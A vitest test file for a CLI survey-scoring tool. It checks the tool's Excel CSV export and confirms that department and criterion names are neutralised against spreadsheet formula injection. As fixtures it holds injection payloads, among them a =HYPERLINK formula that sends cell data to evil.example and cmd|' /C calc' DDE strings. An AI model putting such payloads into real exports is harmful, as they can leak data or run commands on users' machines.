/**
 * The CSV that `ic score` writes, read back as bytes: --excel (UTF-8 BOM, `;`, decimal comma, Cyrillic intact),
 * and names that a spreadsheet would run as formulas. Needs `npm run build`.
 */
import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { ic, workdir } from '../helpers/cli.js';
import { EXAMPLE_Q1, csvObjects, parseCsv, scoreJson } from './helpers.js';

const dirs: string[] = [];
afterAll(() => {
  for (const dir of dirs) rmSync(dir, { recursive: true, force: true });
});
function fixture(name?: string): string {
  const dir = workdir(name);
  dirs.push(dir);
  return dir;
}

describe('--excel, opened as bytes', () => {
  const dir = fixture();
  const out = join(dir, 'q1-excel.csv');
  const run = ic(['score', EXAMPLE_Q1, '--excel', '--out', out]);
  const bytes = readFileSync(out);
  const text = bytes.toString('utf8');

  it('starts with the UTF-8 BOM, then the header with ";"', () => {
    expect(run.code).toBe(0);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(text.slice(1).split('\r\n')[0]).toBe('rank;department;id;score;ci95_low;ci95_high;favorable_pct;respondents;raters;speed;quality;competence;politeness;proactivity;flags');
  });

  it('ends records with CRLF and keeps Cyrillic intact', () => {
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.replace(/\r\n/gu, '')).not.toMatch(/[\r\n]/u);
    expect(text).toContain(';Бухгалтерия;accounting;');
    expect(bytes.includes(Buffer.from('Бухгалтерия', 'utf8'))).toBe(true);
  });

  it('writes numbers with a decimal comma, and they are the JSON numbers', () => {
    const rows = parseCsv(text, ';');
    const header = rows[0]!;
    const json = new Map(scoreJson([EXAMPLE_Q1]).json.departments.map((d) => [d.id, d]));
    let numbers = 0;
    for (const row of rows.slice(1)) {
      const d = json.get(row[header.indexOf('id')]!)!;
      for (const key of ['score', 'ci95_low', 'ci95_high', 'favorable_pct']) {
        const cell = row[header.indexOf(key)]!;
        if (cell === '') continue;
        expect(cell, `${d.id} ${key}`).toMatch(/^\d+(,\d+)?$/u);
        expect(cell).not.toContain('.');
        numbers++;
      }
      if (d.score !== null) expect(Number(row[header.indexOf('score')]!.replace(',', '.'))).toBe(d.score);
    }
    expect(numbers).toBeGreaterThan(40);
  });

  it('is the same bytes on stdout; --excel implies --format csv', () => {
    const stdout = ic(['score', EXAMPLE_Q1, '--excel']);
    expect(Buffer.from(stdout.stdout, 'utf8')).toEqual(bytes);
    expect(ic(['score', EXAMPLE_Q1, '--excel', '--format', 'csv']).stdout).toBe(stdout.stdout);
  });

  it.each(['criterion', 'pair', 'rater'])('--by %s too', (view) => {
    const stdout = ic(['score', EXAMPLE_Q1, '--excel', '--by', view]).stdout;
    expect(stdout.charCodeAt(0)).toBe(0xfeff);
    const rows = parseCsv(stdout, ';');
    expect(new Set(rows.map((r) => r.length)).size).toBe(1);
    expect(stdout).toMatch(/;\d+,\d+;/u);
    expect(stdout).not.toMatch(/;\d+\.\d+(;|\r)/u);
  });
});

describe('names that a spreadsheet would run as a formula', () => {
  const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Open")';
  const dir = fixture('score-small');
  // Departments and criteria renamed (ids unchanged); names reach the CSV of every view.
  const yaml = readFileSync(join(dir, 'ic.yaml'), 'utf8')
    .replace('name: Sales', `name: '${HYPERLINK.replace(/'/gu, "''")}'`)
    .replace('name: Procurement', "name: '+7 (495) 000-00-00'")
    .replace('name: IT', "name: '@SUM(1+1)*cmd|'' /C calc''!A0'")
    .replace('name: HR', "name: '-HR-'")
    .replace('name: Speed', "name: '=1+1'")
    .replace('name: Quality', "name: '+Quality'");
  writeFileSync(join(dir, 'ic.yaml'), yaml);

  it('the config reads as intended', () => {
    const { json } = scoreJson(['responses.csv'], { cwd: dir });
    expect(json.departments.map((d) => d.name)).toEqual([HYPERLINK, '+7 (495) 000-00-00', "@SUM(1+1)*cmd|' /C calc'!A0", '-HR-']);
  });

  it.each(['department', 'criterion', 'pair', 'rater'])('--by %s: no cell starts with = + - @ tab or CR unless it is a number', (view) => {
    for (const excel of [false, true]) {
      const out = ic(['score', 'responses.csv', '--by', view, ...(excel ? ['--excel'] : ['--format', 'csv'])], { cwd: dir });
      expect(out.code).toBe(0);
      const number = excel ? /^-?\d+(,\d+)?(e-?\d+)?$/u : /^-?\d+(\.\d+)?(e-?\d+)?$/u;
      for (const row of parseCsv(out.stdout, excel ? ';' : ',')) {
        for (const cell of row) if (/^[=+\-@\t\r]/u.test(cell)) expect(cell, `${view}: ${JSON.stringify(cell)}`).toMatch(number);
      }
    }
  });

  it('the department named =HYPERLINK(...) is text behind an apostrophe; its numbers stay numbers', () => {
    const rows = csvObjects(ic(['score', 'responses.csv', '--format', 'csv'], { cwd: dir }).stdout);
    const sales = rows.find((r) => r['id'] === 'sales')!;
    expect(sales['department']).toBe(`'${HYPERLINK}`);
    expect(sales['score']).toBe('3.75');
    expect(rows.find((r) => r['id'] === 'procurement')!['department']).toBe("'+7 (495) 000-00-00");
    expect(rows.find((r) => r['id'] === 'hr')!['department']).toBe("'-HR-");
    // The harsh rater's difference is a negative number, not text.
    const raters = csvObjects(ic(['score', 'responses.csv', '--format', 'csv', '--by', 'rater'], { cwd: dir }).stdout);
    expect(raters.find((r) => r['id'] === 'procurement')!['difference']).toMatch(/^-0\.2222/u);
  });

  it('criterion names too (--by criterion)', () => {
    const rows = csvObjects(ic(['score', 'responses.csv', '--format', 'csv', '--by', 'criterion'], { cwd: dir }).stdout);
    expect(rows.map((r) => r['criterion'])).toEqual(["'=1+1", "'+Quality"]);
  });

  it('a left-out row that starts like a formula is neutralised in --rejects too (its text otherwise unchanged)', () => {
    writeFileSync(join(dir, 'bad.csv'), 'respondent_id,rater_department,target_department,speed,quality,comment\n=cmd|\' /C calc\'!A0,sales,it,9,4,"=HYPERLINK(""x"")"\n');
    const run = ic(['score', 'responses.csv', 'bad.csv', '--skip-invalid', '--rejects', 'rejects.csv', '--format', 'json'], { cwd: dir });
    expect(run.code).toBe(0);
    const rejects = csvObjects(readFileSync(join(dir, 'rejects.csv'), 'utf8'));
    expect(rejects.map((r) => [r['file'], r['line'], r['row']])).toEqual([['bad.csv', '2', '\'=cmd|\' /C calc\'!A0,sales,it,9,4,"=HYPERLINK(""x"")"']]);
  });
});
